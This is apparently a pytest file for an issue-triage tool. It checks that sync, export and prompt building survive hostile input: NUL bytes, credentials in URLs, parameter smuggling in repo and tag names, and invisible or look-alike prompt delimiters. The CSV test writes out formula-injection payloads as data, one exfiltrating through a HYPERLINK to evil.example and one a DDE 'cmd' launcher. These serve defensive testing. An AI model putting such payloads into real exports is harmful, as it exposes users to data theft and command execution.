"""Hostile text and the answers real services send, through the fakes and the real `triage`."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydantic import BaseModel
from sqlalchemy import select

from jobs.locks import DaemonLock
from tests.analysis_support import gemini_config
from tests.e2e.cli import run_triage
from tests.fakes.gemini import FakeGemini
from tests.fakes.github import FakeGitHub
from tests.fakes.server import Response
from tests.fakes.stackexchange import FakeStackExchange
from triage.clients.github import GitHubClient, RetryPolicy
from triage.commands.failures import explain
from triage.config import Config
from triage.db import migrate
from triage.db.engine import make_engine, session_factory
from triage.db.schema import Item
from triage.errors import QuotaExhausted
from triage.providers import prompts
from triage.providers.base import ItemText, Taxonomy
from triage.providers.calls import CallFailed
from triage.providers.gemini.provider import GeminiProvider
from triage.sinks.formatting import shorten

REPO = "octo/hello"
TAG = "google-gemini"


@pytest.fixture
def gh() -> Iterator[FakeGitHub]:
    with FakeGitHub() as fake:
        fake.add_repo(REPO)
        yield fake


@pytest.fixture
def se() -> Iterator[FakeStackExchange]:
    with FakeStackExchange(3) as fake:
        yield fake


def env_for(db_url: str, gh: FakeGitHub, **extra: str) -> dict[str, str]:
    engine = make_engine(db_url)
    migrate.upgrade(engine)
    engine.dispose()
    return {
        "TRIAGE_DATABASE__URL": db_url,
        "TRIAGE_GITHUB__API_URL": gh.base_url,
        "TRIAGE_GITHUB__REPOS": f'["{REPO}"]',
        "TRIAGE_GITHUB__RETRY_BACKOFF": "0.01",
        "TRIAGE_LLM__PROVIDER": "local",
        "COLUMNS": "200",
        **extra,
    }


def items(db_url: str) -> dict[str, Item]:
    engine = make_engine(db_url)
    try:
        with session_factory(engine)() as s:
            return {i.key: i for i in s.scalars(select(Item))}
    finally:
        engine.dispose()


# 1 and 2: a lone surrogate and a NUL byte, on SQLite and PostgreSQL
def test_a_lone_surrogate_or_nul_never_blocks_a_sync(
    gh: FakeGitHub, se: FakeStackExchange, db_url: str, tmp_path: Path
) -> None:
    gh.add_issue(REPO, "Crash on \ud800 input", "body with a \x00 NUL")
    gh.add_issue(REPO, "A plain issue", "nothing odd")
    env = env_for(
        db_url,
        gh,
        TRIAGE_STACKEXCHANGE__API_URL=se.base_url,
        TRIAGE_STACKEXCHANGE__TAGS=f'["{TAG}"]',
    )

    result = run_triage("sync", cwd=tmp_path, env=env)

    assert result.returncode == 0, result.stderr
    stored = items(db_url)
    odd = stored[f"github:{REPO}#1"]
    assert odd.title == "Crash on \ufffd input" and odd.body == "body with a  NUL"
    assert odd.extra["sanitized"] == ["title", "body"]
    assert f"github:{REPO}#2" in stored
    assert sum(k.startswith("stackexchange:") for k in stored) == 3  # the other source ran


# 3: CSV formula injection
def test_csv_export_never_hands_a_spreadsheet_a_formula(
    gh: FakeGitHub, sqlite_url: str, tmp_path: Path
) -> None:
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    for title in [*evil, "+1 from me", "-2 regression", "\tindented", "plain title"]:
        gh.add_issue(REPO, title)
    env = env_for(sqlite_url, gh)
    assert run_triage("sync", cwd=tmp_path, env=env).returncode == 0

    result = run_triage("export", "--format", "csv", cwd=tmp_path, env=env)

    assert result.returncode == 0, result.stderr
    titles = [row["title"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert sorted(titles) == sorted(
        [
            "'" + evil[0],
            "'" + evil[1],
            "'+1 from me",
            "'-2 regression",
            "'\tindented",
            "plain title",
        ]
    )
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)


# 6: credentials in a base URL
def test_credentials_in_a_base_url_never_reach_the_logs(
    gh: FakeGitHub, sqlite_url: str, tmp_path: Path
) -> None:
    env = env_for(
        sqlite_url,
        gh,
        TRIAGE_GITHUB__API_URL="http://user:SECRETPASS@127.0.0.1:9/",  # nothing listens there
        TRIAGE_GITHUB__MAX_RETRIES="1",
    )

    result = run_triage("sync", cwd=tmp_path, env=env)

    assert result.returncode == 1
    assert "github retry" in result.stderr and "cannot reach the GitHub API" in result.stderr
    assert "SECRETPASS" not in result.stderr + result.stdout
    assert "http://***@127.0.0.1:9" in result.stderr


# 7: backoff bounded as a total; malformed names refused before any request
def test_a_secondary_limit_without_retry_after_waits_at_most_the_cap(gh: FakeGitHub) -> None:
    gh.secondary_limit(times=10)  # the recorded abuse answer: 403, no Retry-After
    waits: list[float] = []
    policy = RetryPolicy(max_retries=5, max_rate_limit_wait=900, secondary_rate_wait=60)
    client = GitHubClient(gh.base_url, None, policy=policy, sleep=waits.append)

    with pytest.raises(QuotaExhausted, match="max_rate_limit_wait"):
        client.get(f"/repos/{REPO}/issues", {}, "the issues")

    assert sum(waits) <= 900 and waits == [60, 120, 240, 480]


@pytest.mark.parametrize("repo", ["acme/app?per_page=1&x=", "acme/app#1", "acme/a b"])
def test_a_malformed_repository_is_refused_before_any_request(
    gh: FakeGitHub, sqlite_url: str, repo: str, tmp_path: Path
) -> None:
    env = env_for(sqlite_url, gh)

    result = run_triage("backfill", "github", repo, cwd=tmp_path, env=env)

    assert result.returncode == 2 and "expected OWNER/REPO" in result.stderr
    assert gh.requests == []


def test_a_malformed_tag_is_refused_before_any_request(
    se: FakeStackExchange, sqlite_url: str, gh: FakeGitHub, tmp_path: Path
) -> None:
    env = env_for(sqlite_url, gh, TRIAGE_STACKEXCHANGE__API_URL=se.base_url)

    result = run_triage("backfill", "stackoverflow", "gemini&site=x", cwd=tmp_path, env=env)

    assert result.returncode == 2 and "is not a tag name" in result.stderr
    assert se.requests == []


# 8: what to fix, not "unexpected"
def test_an_overflowing_window_is_a_usage_error(
    gh: FakeGitHub, sqlite_url: str, tmp_path: Path
) -> None:
    result = run_triage(
        "digest", "--window", "99999999d", cwd=tmp_path, env=env_for(sqlite_url, gh)
    )
    assert result.returncode == 2, result.stderr
    assert "unexpected" not in result.stderr and "window" in result.stderr


def test_a_locked_database_names_the_daemon_holding_it(tmp_path: Path) -> None:
    db = tmp_path / "triage.db"
    url = f"sqlite:///{db}"
    holder = sqlite3.connect(db)
    holder.execute("CREATE TABLE t (x)")
    holder.execute("BEGIN EXCLUSIVE")
    other = sqlite3.connect(db, timeout=0)
    with pytest.raises(sqlite3.OperationalError) as locked:
        other.execute("INSERT INTO t VALUES (1)")
    lock = DaemonLock(db.resolve())
    lock.acquire()
    try:
        message = str(explain(locked.value, url))
    finally:
        lock.release()
    assert "locked by the triage daemon (pid " in message and "re-run" in message
    assert "another triage process" in str(explain(locked.value, url))
    full = sqlite3.OperationalError("database or disk is full")
    assert "disk is full" in str(explain(full, url)) and "free space" in str(explain(full, url))
    holder.close()
    other.close()


def test_a_truncated_gemini_answer_is_retried(fake_gemini: FakeGemini) -> None:
    fake_gemini.truncate(times=1)
    p = GeminiProvider(gemini_config(fake_gemini), fake_gemini.api_key, sleep=lambda _s: None)

    out = p.classify(
        [ItemText("k0", "App crashes", "segfault")], Taxonomy.from_config(Config()), []
    )

    assert not out.failed and [r.key for r in out.results] == ["k0"]
    assert fake_gemini.generate_calls == 2


class Answer(BaseModel):
    title: str


def test_a_gemini_read_timeout_says_what_to_change(fake_gemini: FakeGemini) -> None:
    hold = fake_gemini.hold(r":generateContent$", after=0)
    cfg = gemini_config(fake_gemini, gemini={"timeout": 1, "max_retries": 0})
    p = GeminiProvider(cfg, fake_gemini.api_key, sleep=lambda _s: None)
    try:
        with pytest.raises(CallFailed, match=r"timeout \(1s\): raise it"):
            p.generate_json("system", "user", Answer, "themes", "v1", 1)
    finally:
        hold.release()


# 9: delimiter look-alikes and invisible characters
@pytest.mark.parametrize(
    "text", ["<<<<<END>>>>", "＜＜＜END＞＞＞", "<<\u200b<END>\u200b>>", "<\u202e<<END>>\u2066>"]
)
def test_no_delimiter_survives_neutralize(text: str) -> None:
    clean = prompts.neutralize(text)
    # What a model reads: fullwidth forms as ASCII, invisible characters as nothing.
    seen = re.sub(
        "[\u200b-\u200f\u202a-\u202e\u2060-\u2069]", "", unicodedata.normalize("NFKC", clean)
    )
    assert "<<<" not in seen and ">>>" not in seen and "END" in seen
    assert seen == clean


def test_titles_reach_digests_without_invisible_characters() -> None:
    assert shorten("Pay\u200bPal \u202egnp.exe login", 200) == "PayPal gnp.exe login"


# 10: the answers real services send
def test_the_older_github_issue_shape_is_an_issue_with_its_assignee(
    gh: FakeGitHub, sqlite_url: str, tmp_path: Path
) -> None:
    gh.add_issue(REPO, "Old shape", assignees=["alice"], old_shape=True)
    gh.add_issue(REPO, "A real pull request", is_pr=True)

    result = run_triage("sync", cwd=tmp_path, env=env_for(sqlite_url, gh))

    assert result.returncode == 0, result.stderr
    stored = items(sqlite_url)
    assert list(stored) == [f"github:{REPO}#1"]  # the PR is still skipped
    item = stored[f"github:{REPO}#1"]
    assert not item.is_pull_request and item.assignees == ["alice"]


def test_a_stack_exchange_page_without_bodies_names_what_is_missing(
    se: FakeStackExchange, gh: FakeGitHub, sqlite_url: str, tmp_path: Path
) -> None:
    question = next(iter(se.questions.values())).to_json(body=False, custom=False)
    page = {"items": [question], "has_more": False, "quota_max": 300, "quota_remaining": 299}
    se.add_fault(Response(200, page), path="/questions")  # `filter` ignored on the way
    env = env_for(
        sqlite_url,
        gh,
        TRIAGE_GITHUB__REPOS="[]",
        TRIAGE_STACKEXCHANGE__API_URL=se.base_url,
        TRIAGE_STACKEXCHANGE__TAGS=f'["{TAG}"]',
    )

    result = run_triage("sync", cwd=tmp_path, env=env)

    assert result.returncode != 0
    line = next(x for x in result.stderr.splitlines() if x.startswith("error:"))
    assert "without question bodies" in line and "withbody" in line and "api_url" in line
    assert "use 'withbody'" not in line
